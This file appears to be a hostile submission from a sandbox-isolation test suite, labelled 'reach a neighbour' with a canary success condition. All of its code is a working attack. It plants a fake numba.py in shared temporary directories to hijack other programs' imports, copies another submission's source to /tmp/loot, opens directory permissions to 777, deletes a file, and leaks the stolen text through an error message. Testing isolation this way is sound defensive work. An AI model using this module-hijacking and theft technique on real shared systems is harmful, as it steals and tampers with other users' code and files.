"""Leaves a module under the name of a library that others use where it is there.
class: reach a neighbour
verdict: error, failed, timeout, memory, crash, blocked
success: canary
control: shared
"""

import os
import tempfile
import time

PLACES = [os.getcwd(), "/tmp/submission", tempfile.gettempdir(), os.path.dirname(tempfile.gettempdir()), "/tmp", "/dev/shm"]
EVIL = """
with open("/tmp/submission/hostile.py") as file:
    text = file.read()
with open("/tmp/loot", "w") as file:
    file.write(text)
def scale(x):
    return 0
double = scale
"""
LOOT = []
for place in PLACES:
    try:
        with open(os.path.join(place, "numba.py"), "w") as file:
            file.write(EVIL)
        os.chmod(place, 0o777)
        os.remove(os.path.join(place, "hostile.py"))
    except OSError:
        pass


def _look(seconds):
    end = time.time() + seconds
    while time.time() < end and not LOOT:
        for path in [os.path.join(place, "loot") for place in PLACES]:
            try:
                with open(path) as file:
                    LOOT.append(file.read())
            except OSError:
                pass
        time.sleep(0.002)


_look(2)


def scale(x):
    raise ValueError(LOOT[0] if LOOT else "nothing")
